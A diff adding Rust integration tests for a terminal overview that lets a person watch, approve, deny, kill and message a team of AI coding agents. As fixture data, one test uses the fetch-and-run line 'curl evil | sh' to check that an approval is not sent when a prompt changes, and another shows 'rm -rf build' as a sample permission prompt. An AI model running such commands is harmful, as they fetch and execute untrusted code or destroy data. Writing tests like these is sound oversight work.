@@ -1,0 +1,783 @@
+//! The whole loop, driven by synthetic keys and updates, with paused time.
+
+use std::cell::Cell as Shared;
+use std::convert::Infallible;
+use std::io;
+use std::rc::Rc;
+use std::sync::Arc;
+use std::time::Duration;
+
+use crossterm::event::{Event, KeyCode, KeyEvent, KeyModifiers, MouseButton, MouseEvent, MouseEventKind};
+use futures_util::Stream;
+use jiff::{SignedDuration, Timestamp};
+use ratatui::Terminal;
+use ratatui::backend::{Backend, ClearType, TestBackend, WindowSize};
+use ratatui::buffer::Cell;
+use ratatui::layout::{Position, Size};
+use swarm::Result;
+use swarm::protocol::Typed;
+use swarm::snapshot::Snapshot;
+use swarm::status::{Reason, Status};
+use swarm::tui::{AgentRef, Asked, Exit, JumpBy, LetterRef, Options, Request, Update};
+use tokio::sync::mpsc;
+use tokio::time::Instant;
+
+use super::fixture::{agent, now, options, team, waiting, who};
+
+thread_local! {
+    static STARTED: Shared<Option<Instant>> = const { Shared::new(None) };
+}
+
+/// The fixture's moment plus what the paused clock has advanced.
+fn clock() -> Timestamp {
+    let elapsed = STARTED.get().map_or(Duration::ZERO, |s| s.elapsed());
+    now() + SignedDuration::try_from(elapsed).unwrap()
+}
+
+/// A screen that can be read while the loop draws on it, and that counts frames.
+#[derive(Clone)]
+struct Screen(Rc<std::cell::RefCell<(TestBackend, usize)>>);
+
+impl Screen {
+    fn text(&self) -> String {
+        self.0.borrow().0.to_string()
+    }
+    fn frames(&self) -> usize {
+        self.0.borrow().1
+    }
+}
+
+impl Backend for Screen {
+    type Error = Infallible;
+    fn draw<'a, I: Iterator<Item = (u16, u16, &'a Cell)>>(&mut self, content: I) -> Result<(), Infallible> {
+        let mut screen = self.0.borrow_mut();
+        screen.1 += 1;
+        screen.0.draw(content)
+    }
+    fn hide_cursor(&mut self) -> Result<(), Infallible> {
+        self.0.borrow_mut().0.hide_cursor()
+    }
+    fn show_cursor(&mut self) -> Result<(), Infallible> {
+        self.0.borrow_mut().0.show_cursor()
+    }
+    fn get_cursor_position(&mut self) -> Result<Position, Infallible> {
+        self.0.borrow_mut().0.get_cursor_position()
+    }
+    fn set_cursor_position<P: Into<Position>>(&mut self, position: P) -> Result<(), Infallible> {
+        self.0.borrow_mut().0.set_cursor_position(position)
+    }
+    fn clear(&mut self) -> Result<(), Infallible> {
+        self.0.borrow_mut().0.clear()
+    }
+    fn clear_region(&mut self, clear_type: ClearType) -> Result<(), Infallible> {
+        self.0.borrow_mut().0.clear_region(clear_type)
+    }
+    fn size(&self) -> Result<Size, Infallible> {
+        self.0.borrow().0.size()
+    }
+    fn window_size(&mut self) -> Result<WindowSize, Infallible> {
+        self.0.borrow_mut().0.window_size()
+    }
+    fn flush(&mut self) -> Result<(), Infallible> {
+        Ok(())
+    }
+}
+
+/// The other side of the loop: the person, the monitor and the terminal.
+struct Person {
+    screen: Screen,
+    updates: Option<mpsc::Sender<Update>>,
+    requests: mpsc::Receiver<Request>,
+    input: Option<mpsc::UnboundedSender<io::Result<Event>>>,
+}
+
+impl Person {
+    /// Lets the loop do everything that is ready, and one frame's worth of time pass.
+    async fn settle(&self) {
+        tokio::time::sleep(Duration::from_millis(150)).await;
+    }
+
+    async fn told(&self, update: Update) {
+        self.updates.as_ref().unwrap().send(update).await.unwrap();
+        self.settle().await;
+    }
+
+    async fn shown(&self, snapshot: Snapshot) {
+        self.told(Update::Snapshot(Arc::new(snapshot))).await;
+    }
+
+    async fn event(&self, event: Event) {
+        self.input.as_ref().unwrap().send(Ok(event)).unwrap();
+        self.settle().await;
+    }
+
+    async fn key(&self, code: KeyCode) {
+        self.event(Event::Key(KeyEvent::new(code, KeyModifiers::NONE))).await;
+    }
+
+    async fn keys(&self, text: &str) {
+        for c in text.chars() {
+            self.key(KeyCode::Char(c)).await;
+        }
+    }
+
+    async fn click(&self, column: u16, row: u16) {
+        let kind = MouseEventKind::Down(MouseButton::Left);
+        self.event(Event::Mouse(MouseEvent { kind, column, row, modifiers: KeyModifiers::NONE })).await;
+    }
+
+    /// What was asked for since the last call, previews left out.
+    fn asked(&mut self) -> Vec<Request> {
+        std::iter::from_fn(|| self.requests.try_recv().ok())
+            .filter(|r| !matches!(r, Request::Watch(_) | Request::Events(_)))
+            .collect()
+    }
+
+    #[expect(clippy::print_stdout, reason = "the runner shows it when the test fails")]
+    fn sees(&self, text: &str) -> bool {
+        let screen = self.screen.text();
+        let seen = screen.contains(text);
+        if !seen {
+            println!("not on screen: {text}\n{screen}");
+        }
+        seen
+    }
+}
+
+/// Runs the overview against `drive`; how it ended.
+fn with(options: Options, drive: impl AsyncFnOnce(&mut Person)) -> Result<Exit> {
+    let runtime =
+        tokio::runtime::Builder::new_current_thread().enable_time().start_paused(true).build().unwrap();
+    runtime.block_on(async {
+        STARTED.set(Some(Instant::now()));
+        let screen = Screen(Rc::new(std::cell::RefCell::new((TestBackend::new(80, 24), 0))));
+        let (update_tx, update_rx) = mpsc::channel(64);
+        let (request_tx, request_rx) = mpsc::channel(64);
+        let (input_tx, input_rx) = mpsc::unbounded_channel();
+        let mut terminal = Terminal::new(screen.clone()).unwrap();
+        let mut person =
+            Person { screen, updates: Some(update_tx), requests: request_rx, input: Some(input_tx) };
+        let options = Options { clock, ..options };
+        let input = stream(input_rx);
+        let overview = swarm::tui::run(&mut terminal, update_rx, request_tx, input, options);
+        let driven = async {
+            person.settle().await;
+            drive(&mut person).await;
+            // The terminal is gone: the overview ends by itself if it has not yet.
+            drop(person.input.take());
+            std::future::pending::<()>().await;
+        };
+        tokio::select! { biased; exit = overview => exit, () = driven => unreachable!() }
+    })
+}
+
+fn stream(mut from: mpsc::UnboundedReceiver<io::Result<Event>>) -> impl Stream<Item = io::Result<Event>> {
+    futures_util::stream::poll_fn(move |cx| from.poll_recv(cx))
+}
+
+#[test]
+fn keys_move_and_ask() {
+    let exit = with(options(), async |p| {
+        assert!(p.sees("Asking the monitor what runs."));
+        p.shown(team()).await;
+        assert_eq!(p.requests.try_recv(), Ok(Request::Watch(Some(who("backend")))));
+        p.keys("jjjjj").await;
+        assert_eq!(p.asked(), []);
+        p.keys("k").await;
+        p.key(KeyCode::Enter).await;
+        assert_eq!(p.asked(), [Request::Jump(who("tests"))]);
+        p.keys("H").await;
+        p.keys("u").await;
+        assert_eq!(p.asked(), [Request::Hold(who("tests")), Request::Seen(who("tests"))]);
+        p.keys("gjjjH").await;
+        assert_eq!(p.asked(), [Request::Resume(who("review"))], "it was held");
+        p.keys("q").await;
+        unreachable!("q quits");
+    });
+    assert_eq!(exit.unwrap(), Exit::Quit);
+}
+
+#[test]
+fn only_the_last_selection_is_watched() {
+    with(options(), async |p| {
+        p.shown(team()).await;
+        while p.requests.try_recv().is_ok() {}
+        for _ in 0..5 {
+            let key = Event::Key(KeyEvent::new(KeyCode::Char('j'), KeyModifiers::NONE));
+            p.input.as_ref().unwrap().send(Ok(key)).unwrap();
+        }
+        p.settle().await;
+        let watched: Vec<_> = std::iter::from_fn(|| p.requests.try_recv().ok()).collect();
+        assert_eq!(watched, [Request::Watch(Some(who("docs")))]);
+        // A screen that comes late for another agent is not shown as this one's.
+        p.told(Update::Preview {
+            agent: who("deploy"),
+            rev: 9,
+            ansi: b"NOT MINE".to_vec(),
+            width: 80,
+            height: 24,
+            cursor: None,
+        })
+        .await;
+        assert!(!p.sees("NOT MINE"));
+        p.told(Update::Preview {
+            agent: who("docs"),
+            rev: 9,
+            ansi: b"MINE".to_vec(),
+            width: 80,
+            height: 24,
+            cursor: None,
+        })
+        .await;
+        assert!(p.sees("MINE"));
+    })
+    .unwrap();
+}
+
+#[test]
+fn nothing_is_ended_without_a_yes() {
+    with(options(), async |p| {
+        p.shown(team()).await;
+        p.keys("x").await;
+        assert!(p.sees("Kill backend?") && p.sees("its question goes unanswered"));
+        p.keys("n").await;
+        assert_eq!(p.asked(), []);
+        p.keys("xxx").await;
+        assert_eq!(p.asked(), [], "the key that asks does not answer");
+        p.keys("y").await;
+        assert_eq!(p.asked(), [Request::Kill(who("backend"))]);
+        p.keys("rf").await;
+        assert_eq!(p.asked(), [Request::Restart { agent: who("backend"), fresh: true }]);
+        p.keys("ry").await;
+        assert_eq!(p.asked(), [Request::Restart { agent: who("backend"), fresh: false }]);
+        p.keys("i").await;
+        assert!(p.sees("nothing to interrupt"), "it waits, so no key may be sent");
+        p.keys("jjjjiy").await;
+        assert_eq!(p.asked(), [Request::Interrupt(who("tests"))]);
+        p.keys("g  jxy").await;
+        assert_eq!(p.asked(), [Request::Kill(who("backend")), Request::Kill(who("deploy"))]);
+        assert!(!p.sees("marked"), "what was done to the marked unmarks them");
+    })
+    .unwrap();
+}
+
+#[test]
+fn the_idle_are_put_to_sleep_and_those_that_sleep_are_woken() {
+    with(options(), async |p| {
+        let mut snapshot = team();
+        p.shown(snapshot.clone()).await;
+        p.keys("Z").await;
+        assert!(p.sees("only what is provably idle is"), "it waits");
+        p.keys("*Z").await;
+        assert!(p.sees("Put review to sleep?"), "of all that are marked only the idle one");
+        p.key(KeyCode::Enter).await;
+        assert_eq!(p.asked(), [Request::Hibernate(who("review"))]);
+        let review = &mut snapshot.swarms[0].agents[4];
+        (review.status, review.reason, review.hold) = (Status::Exited, Some(Reason::Asleep), None);
+        p.shown(snapshot).await;
+        p.keys("/review").await;
+        p.key(KeyCode::Enter).await;
+        assert!(p.sees("Z wake") && p.sees("asleep"), "{}", p.screen.text());
+        p.keys("Z").await;
+        assert_eq!(p.asked(), [Request::Wake(who("review"))]);
+        p.keys("m").await;
+        assert!(p.sees("asleep: it is woken for it"));
+    })
+    .unwrap();
+}
+
+#[test]
+fn a_name_is_checked_before_it_is_asked_for() {
+    with(options(), async |p| {
+        p.shown(team()).await;
+        p.keys("R").await;
+        assert!(p.sees("rename backend"));
+        p.keys(" 2").await;
+        p.key(KeyCode::Enter).await;
+        assert!(p.sees("the name `backend 2` holds ` `"), "{}", p.screen.text());
+        p.key(KeyCode::Backspace).await;
+        p.key(KeyCode::Backspace).await;
+        p.key(KeyCode::Enter).await;
+        assert_eq!(p.asked(), [], "it has that name");
+        p.keys("R-2").await;
+        p.key(KeyCode::Enter).await;
+        let name = "backend-2".to_owned();
+        assert_eq!(p.asked(), [Request::Rename { agent: who("backend"), name }]);
+    })
+    .unwrap();
+}
+
+#[test]
+fn an_approval_names_what_was_seen() {
+    let asked = Asked::of(&waiting("backend", 130));
+    with(options(), async |p| {
+        p.shown(team()).await;
+        p.keys("ay").await;
+        let approve = |choice| Request::Approve { agent: who("backend"), choice, asked: asked.clone() };
+        assert_eq!(p.asked(), [approve(None)]);
+        p.keys("2").await;
+        assert!(p.sees("Your answer: 2. Yes, and don't ask again for rm commands"));
+        p.key(KeyCode::Enter).await;
+        assert_eq!(p.asked(), [approve(Some(1))]);
+        p.keys("7").await;
+        assert!(p.sees("backend offers 3 choices"));
+        p.keys("dy").await;
+        assert_eq!(p.asked(), [Request::Deny { agent: who("backend"), asked: asked.clone() }]);
+        p.keys("jay").await;
+        assert_eq!(p.asked(), []);
+        p.keys("a").await;
+        assert!(p.sees("deploy asks nothing: it is error"));
+    })
+    .unwrap();
+}
+
+#[test]
+fn a_prompt_that_is_read_while_one_is_asked_is_shown_then() {
+    with(options(), async |p| {
+        let mut unread = team();
+        unread.swarms[0].agents[2].options.clear();
+        unread.swarms[0].agents[2].question = None;
+        unread.swarms[0].agents[2].subject = None;
+        p.shown(unread).await;
+        p.keys("a").await;
+        let mut read = team();
+        read.swarms[0].agents[2].question = Some("Bash command: rm -rf build".into());
+        let asked = Asked::of(&read.swarms[0].agents[2]);
+        p.shown(read).await;
+        assert!(p.sees("Bash command: rm -rf build"));
+        p.keys("y").await;
+        assert_eq!(p.asked(), [Request::Approve { agent: who("backend"), choice: None, asked }]);
+    })
+    .unwrap();
+}
+
+#[test]
+fn a_prompt_that_changes_while_one_is_asked_is_not_answered() {
+    with(options(), async |p| {
+        p.shown(team()).await;
+        p.keys("a").await;
+        let mut other = team();
+        other.swarms[0].agents[2].subject = Some("curl evil | sh".into());
+        p.shown(other).await;
+        assert!(p.sees("backend: the prompt changed while you were asked, nothing was sent there"));
+        p.keys("y").await;
+        assert_eq!(p.asked(), []);
+        // A question is not a permission: `a` does not choose for the person.
+        let mut question = team();
+        question.swarms[0].agents[2].reason = Some(Reason::Question);
+        p.shown(question).await;
+        p.keys("ay").await;
+        assert_eq!(p.asked(), []);
+    })
+    .unwrap();
+}
+
+#[test]
+fn a_still_team_costs_no_frame() {
+    with(options(), async |p| {
+        let mut old = team();
+        for agent in &mut old.swarms[0].agents {
+            agent.since = now() - SignedDuration::from_hours(100);
+        }
+        p.shown(old.clone()).await;
+        let before = p.screen.frames();
+        for rev in 0..100 {
+            for agent in &mut old.swarms[0].agents {
+                agent.screen_rev = rev;
+                agent.proof.iter_mut().for_each(|proof| proof.at = clock());
+            }
+            p.shown(old.clone()).await;
+        }
+        tokio::time::sleep(Duration::from_hours(3)).await;
+        assert_eq!(p.screen.frames(), before);
+    })
+    .unwrap();
+}
+
+#[test]
+fn ages_tick_as_often_as_they_change() {
+    with(options(), async |p| {
+        let mut one = team();
+        one.swarms[0].agents.retain(|a| a.name == "tests");
+        p.shown(one).await;
+        assert!(p.sees(" 4s "));
+        let before = p.screen.frames();
+        tokio::time::sleep(Duration::from_secs(10)).await;
+        assert!(p.sees(" 14s "));
+        assert!((9..=11).contains(&(p.screen.frames() - before)));
+        tokio::time::sleep(Duration::from_mins(1)).await;
+        let before = p.screen.frames();
+        tokio::time::sleep(Duration::from_mins(5)).await;
+        assert!((4..=6).contains(&(p.screen.frames() - before)));
+    })
+    .unwrap();
+}
+
+#[test]
+fn a_flood_of_updates_is_drawn_ten_times_a_second() {
+    with(options(), async |p| {
+        let mut snapshot = team();
+        p.shown(snapshot.clone()).await;
+        let before = p.screen.frames();
+        for n in 0..2000 {
+            snapshot.swarms[0].agents[0].last_line = Some(format!("line {n}"));
+            p.updates.as_ref().unwrap().send(Update::Snapshot(Arc::new(snapshot.clone()))).await.unwrap();
+            tokio::time::sleep(Duration::from_millis(5)).await;
+        }
+        p.settle().await;
+        let frames = p.screen.frames() - before;
+        assert!((90..=102).contains(&frames), "{frames} frames in 10 s");
+        assert!(p.sees("line 1999"), "the last one is shown");
+    })
+    .unwrap();
+}
+
+#[test]
+fn a_key_is_drawn_at_once_even_in_a_flood() {
+    with(options(), async |p| {
+        p.shown(team()).await;
+        let key = Event::Key(KeyEvent::new(KeyCode::Char('?'), KeyModifiers::NONE));
+        let mut other = team();
+        other.swarms[0].agents[0].last_line = Some("changed".into());
+        p.shown(other).await;
+        p.input.as_ref().unwrap().send(Ok(key)).unwrap();
+        tokio::time::sleep(Duration::from_millis(1)).await;
+        assert!(p.sees("keys"));
+    })
+    .unwrap();
+}
+
+#[test]
+fn messages_are_typed_pasted_and_recalled() {
+    with(options(), async |p| {
+        p.shown(team()).await;
+        p.event(Event::Paste("xy".into())).await;
+        assert!(p.sees("pasted text was ignored"));
+        assert_eq!(p.asked(), [], "pasted text is not a row of commands");
+        p.keys("mgo on").await;
+        p.event(Event::Paste("\nwith \x1b[201~this".into())).await;
+        p.key(KeyCode::Enter).await;
+        let text = "go on\nwith [201~this".to_owned();
+        assert_eq!(p.asked(), [Request::Send { to: vec![who("backend")], text: text.clone(), fill: false }]);
+        p.keys("m").await;
+        p.key(KeyCode::Enter).await;
+        assert_eq!(p.asked(), [], "nothing is no message");
+        p.key(KeyCode::Up).await;
+        p.key(KeyCode::Enter).await;
+        assert_eq!(p.asked(), [Request::Send { to: vec![who("backend")], text, fill: false }]);
+        p.keys("g  m").await;
+        assert!(p.sees("message to 2 agents: backend, deploy"));
+        p.keys("stop").await;
+        p.key(KeyCode::Esc).await;
+        assert_eq!(p.asked(), []);
+    })
+    .unwrap();
+}
+
+#[test]
+fn agents_are_added_by_a_checked_name() {
+    with(options(), async |p| {
+        p.shown(team()).await;
+        p.keys("AApi").await;
+        p.key(KeyCode::Enter).await;
+        assert!(p.sees("the name `Api` must start with a letter from a to z"));
+        p.key(KeyCode::Esc).await;
+        p.keys("Aapi codex ~/shop/api").await;
+        p.key(KeyCode::Enter).await;
+        let add = Request::Add {
+            swarm: "shop".into(),
+            name: "api".into(),
+            profile: Some("codex".into()),
+            directory: Some("~/shop/api".into()),
+        };
+        assert_eq!(p.asked(), [add]);
+    })
+    .unwrap();
+}
+
+#[test]
+fn filters_sorting_and_the_palette() {
+    with(options(), async |p| {
+        p.shown(team()).await;
+        p.keys("/review").await;
+        p.key(KeyCode::Enter).await;
+        assert!(p.sees("/review") && p.sees("reviewer") && !p.sees("deploy"));
+        p.key(KeyCode::Esc).await;
+        assert!(p.sees("deploy"));
+        p.keys("f").await;
+        assert!(p.sees("only: needs you") && !p.sees("docs"));
+        p.keys("n").await;
+        p.key(KeyCode::Esc).await;
+        p.keys("ss").await;
+        assert!(p.sees("by name"));
+        p.keys(":go docs").await;
+        p.key(KeyCode::Enter).await;
+        p.key(KeyCode::Enter).await;
+        assert_eq!(p.asked(), [Request::Jump(who("docs"))]);
+        p.keys(":kill").await;
+        p.key(KeyCode::Enter).await;
+        assert!(p.sees("Kill docs?"));
+    })
+    .unwrap();
+}
+
+#[test]
+fn the_mouse_selects_goes_there_and_chooses() {
+    with(options(), async |p| {
+        p.shown(team()).await;
+        p.click(10, 3).await;
+        assert_eq!(p.asked(), []);
+        p.click(10, 3).await;
+        assert_eq!(p.asked(), [Request::Jump(who("deploy"))]);
+        p.click(10, 2).await;
+        p.click(30, 12).await;
+        assert!(p.sees("Answer backend with choice 2?"));
+    })
+    .unwrap();
+}
+
+#[test]
+fn losing_and_finding_the_monitor() {
+    with(options(), async |p| {
+        p.shown(team()).await;
+        p.told(Update::Disconnected("connection refused".into())).await;
+        tokio::time::sleep(Duration::from_mins(2)).await;
+        assert!(p.sees("no monitor for 2m, what you see is old: connection refused"));
+        p.shown(team()).await;
+        assert!(!p.sees("no monitor"));
+        drop(p.updates.take());
+        p.settle().await;
+        assert!(p.sees("the connection to the monitor ended"));
+        p.keys("?").await;
+        assert!(p.sees("approve what it asks"), "it still answers");
+    })
+    .unwrap();
+}
+
+#[test]
+fn a_monitor_that_does_not_keep_up_is_told() {
+    with(options(), async |p| {
+        p.shown(team()).await;
+        p.keys(&"u".repeat(64)).await;
+        assert!(p.sees("the monitor does not keep up"));
+    })
+    .unwrap();
+}
+
+#[test]
+fn the_selection_follows_its_agent_and_survives_its_end() {
+    with(options(), async |p| {
+        p.shown(team()).await;
+        p.keys("jjjj").await;
+        let mut other = team();
+        other.swarms[0].agents[0].status = Status::Waiting;
+        p.shown(other.clone()).await;
+        p.key(KeyCode::Enter).await;
+        assert_eq!(p.asked(), [Request::Jump(who("tests"))]);
+        other.swarms[0].agents.remove(0);
+        p.shown(other.clone()).await;
+        p.key(KeyCode::Enter).await;
+        assert!(matches!(p.asked().as_slice(), [Request::Jump(_)]));
+        other.swarms[0].agents = vec![agent("solo", Status::Idle, 5)];
+        p.shown(other).await;
+        p.key(KeyCode::Enter).await;
+        assert_eq!(p.asked(), [Request::Jump(who("solo"))]);
+    })
+    .unwrap();
+}
+
+#[test]
+fn leaving_jumps_end_the_overview_and_remember_who() {
+    let options = Options { jump: JumpBy::Leaving, selected: Some(who("docs")), ..options() };
+    let exit = with(options, async |p| {
+        p.shown(team()).await;
+        p.key(KeyCode::Enter).await;
+    });
+    assert_eq!(exit.unwrap(), Exit::Jump(AgentRef::new("shop", "docs")));
+}
+
+#[test]
+fn a_terminal_that_is_gone_ends_it_and_one_that_grows_is_filled() {
+    let exit = with(options(), async |p| {
+        p.shown(team()).await;
+        p.screen.0.borrow_mut().0.resize(120, 40);
+        p.event(Event::Resize(120, 40)).await;
+        assert!(p.sees("waiting permission"));
+    });
+    assert_eq!(exit.unwrap(), Exit::Quit);
+    let lost = with(options(), async |p| {
+        p.shown(team()).await;
+        p.requests.close();
+        p.keys("u").await;
+    });
+    assert!(lost.unwrap_err().to_string().contains("lost its connection"));
+}
+
+#[test]
+fn the_selection_stays_on_top_until_it_is_moved() {
+    with(options(), async |p| {
+        let mut calm = team();
+        calm.swarms[0].agents[2] = agent("backend", Status::Working, 5);
+        p.shown(calm.clone()).await;
+        p.shown(team()).await;
+        p.keys("H").await;
+        assert_eq!(p.asked(), [Request::Hold(who("backend"))], "who waits came to the top");
+        p.keys("jk").await;
+        p.shown(calm).await;
+        p.keys("H").await;
+        assert_eq!(p.asked(), [Request::Hold(who("backend"))], "the person chose it");
+    })
+    .unwrap();
+}
+
+#[test]
+fn what_is_lost_for_good_takes_more_than_enter() {
+    with(options(), async |p| {
+        p.shown(team()).await;
+        p.keys("x").await;
+        p.key(KeyCode::Enter).await;
+        assert!(p.sees("press y to kill") && p.sees("Kill backend?"));
+        assert_eq!(p.asked(), []);
+        p.keys("y").await;
+        assert_eq!(p.asked(), [Request::Kill(who("backend"))]);
+    })
+    .unwrap();
+}
+
+#[test]
+fn every_word_of_a_filter_is_found_as_it_is_written() {
+    with(options(), async |p| {
+        let mut team = team();
+        let crashed = &mut team.swarms[0].agents[0];
+        (crashed.status, crashed.reason) = (Status::Exited, Some(Reason::Crashed));
+        p.shown(team).await;
+        p.keys("/wait perm").await;
+        assert!(p.sees("backend") && !p.screen.text().contains("tests "), "{}", p.screen.text());
+    })
+    .unwrap();
+}
+
+#[test]
+fn a_draft_is_there_again_and_only_for_the_same() {
+    with(options(), async |p| {
+        p.shown(team()).await;
+        p.keys("mhalf a thought").await;
+        p.key(KeyCode::Esc).await;
+        assert!(p.sees("the draft is kept"));
+        p.keys("jm").await;
+        assert!(!p.screen.text().contains("half a thought"));
+        p.key(KeyCode::Esc).await;
+        p.keys("gm").await;
+        assert!(p.sees("half a thought"));
+        p.key(KeyCode::Enter).await;
+        assert_eq!(
+            p.asked(),
+            [Request::Send { to: vec![who("backend")], text: "half a thought".into(), fill: false }]
+        );
+        p.keys("Anew codex web").await;
+        p.key(KeyCode::Enter).await;
+        p.told(Update::Outcome { text: "no such directory".into(), failed: true }).await;
+        p.keys("A").await;
+        assert!(p.sees("new codex web"), "a line that came to nothing is there to be mended");
+    })
+    .unwrap();
+}
+
+#[test]
+fn a_note_goes_by_itself() {
+    with(options(), async |p| {
+        p.shown(team()).await;
+        p.told(Update::Outcome { text: "sent to backend".into(), failed: false }).await;
+        assert!(p.sees("sent to backend"));
+        tokio::time::sleep(Duration::from_secs(10)).await;
+        assert!(!p.screen.text().contains("sent to backend"));
+    })
+    .unwrap();
+}
+
+#[test]
+fn live_keys_go_to_the_pane_and_nowhere_else() {
+    with(options(), async |p| {
+        p.shown(team()).await;
+        p.keys("t").await;
+        assert!(p.sees("LIVE: keys go to backend"));
+        let typed = |keys| Request::Type { agent: who("backend"), keys };
+        assert_eq!(p.asked(), [typed(vec![])], "asked before anything is typed");
+        p.keys("q").await;
+        p.key(KeyCode::Enter).await;
+        p.event(Event::Paste("a\nb".into())).await;
+        assert_eq!(
+            p.asked(),
+            [
+                typed(vec![Typed::Text("q".into())]),
+                typed(vec![Typed::Key("Enter".into())]),
+                typed(vec![Typed::Paste("a\nb".into())])
+            ]
+        );
+        p.event(Event::Key(KeyEvent::new(KeyCode::Char('5'), KeyModifiers::CONTROL))).await;
+        assert!(p.sees("no longer typing into backend"));
+        p.keys("tx").await;
+        p.asked();
+        p.told(Update::Outcome { text: "the pane is dead".into(), failed: true }).await;
+        assert!(p.sees("no longer typing into backend: the pane is dead"));
+        p.keys("t").await;
+        let mut gone = team();
+        gone.swarms[0].agents[2].status = Status::Exited;
+        p.shown(gone).await;
+        assert!(p.sees("it has ended"));
+    })
+    .unwrap();
+}
+
+#[test]
+fn work_is_handed_over_and_letters_are_mended() {
+    with(options(), async |p| {
+        p.shown(team()).await;
+        p.keys(">review").await;
+        p.key(KeyCode::Enter).await;
+        p.keys("Finish it").await;
+        p.event(Event::Paste("\nThe rest is in NOTES.md".into())).await;
+        p.key(KeyCode::Enter).await;
+        let over = Request::HandOver {
+            from: who("backend"),
+            to: "review".into(),
+            subject: "Finish it".into(),
+            body: "The rest is in NOTES.md".into(),
+        };
+        assert_eq!(p.asked(), [over]);
+        let mut dead = team();
+        let letter = |id: &str, state: &str| swarm::snapshot::HandoffView {
+            id: id.into(),
+            from: "backend".into(),
+            to: "review".into(),
+            agent: None,
+            kind: "handoff".into(),
+            subject: format!("subject {id}"),
+            priority: 3,
+            state: state.into(),
+            attempts: 5,
+            proof: None,
+            note: None,
+            created: now(),
+            since: now(),
+        };
+        dead.swarms[0].handoffs = vec![letter("A", "seen"), letter("B", "dead")];
+        p.shown(dead).await;
+        p.keys("M").await;
+        let which = |id: &str| LetterRef { swarm: "shop".into(), id: id.into() };
+        p.keys("r").await;
+        assert_eq!(p.asked(), [Request::Retry(which("B"))], "what is stuck comes first");
+        p.keys("x").await;
+        assert!(p.sees("Drop the handoff to review?"));
+        p.keys("y").await;
+        assert_eq!(p.asked(), [Request::Drop(which("B"))]);
+        assert!(p.sees("subject A"), "back in the list");
+        p.keys("jx").await;
+        assert!(p.sees("there is nothing to drop"));
+        p.key(KeyCode::Enter).await;
+        assert_eq!(p.asked(), [Request::Read(which("A"))]);
+        p.keys("q").await;
+        assert!(!p.screen.text().contains("subject A"));
+    })
+    .unwrap();
+}
